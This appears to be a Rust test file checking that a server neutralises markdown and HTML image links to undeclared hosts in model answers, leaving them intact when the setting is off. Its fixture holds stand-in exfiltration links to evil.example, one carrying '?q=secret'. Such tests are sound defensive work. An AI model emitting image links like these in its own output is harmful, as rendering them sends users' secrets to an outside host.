//! Which pictures of an answer's text stay pictures.

use crate::support::Server;
use crate::support::client::{Client, ask, joined};

const ANSWER: &str = "![a](https://evil.example/?q=secret) ![b](http://demo.localhost/b.png) ![c](data:image/png;base64,AA==) \
                      ![d][1] <img src=\"//evil.example/\"> [e](https://evil.example/)\n\n[1]: https://evil.example/";

/// A request whose answer is this text, whatever it is cut into.
fn saying(text: &str) -> serde_json::Value {
    ask("demo/script", &format!("fixture=rest cut=1 chunk=1\n{text}"))
}

#[tokio::test]
async fn an_answer_shows_pictures_of_declared_hosts_only() {
    let server = Server::builder().config("server: {images: declared}").start_ready();
    let client = Client::of(&server);
    let expected = "! [a](https://evil.example/?q=secret) ![b](http://demo.localhost/b.png) ![c](data:image/png;base64,AA==) \
                    ! [d][1] < img src=\"//evil.example/\"> [e](https://evil.example/)\n\n[1]: https://evil.example/";
    assert_eq!(client.ask(&saying(ANSWER)).await.text(), expected);
    let events = client.stream(saying(ANSWER)).await.rest().await;
    assert_eq!(joined(&events, "content"), expected);
    // What the site itself gives as a picture is shown.
    let picture = client.ask(&ask("demo/image", "a hill")).await;
    assert!(picture.text().contains("![image](http://") && picture.text().contains("/media/"), "{picture:?}");
}

#[tokio::test]
async fn where_nobody_asks_for_it_pictures_stay() {
    let server = Server::builder().start_ready();
    assert_eq!(Client::of(&server).ask(&saying(ANSWER)).await.text(), ANSWER);
}
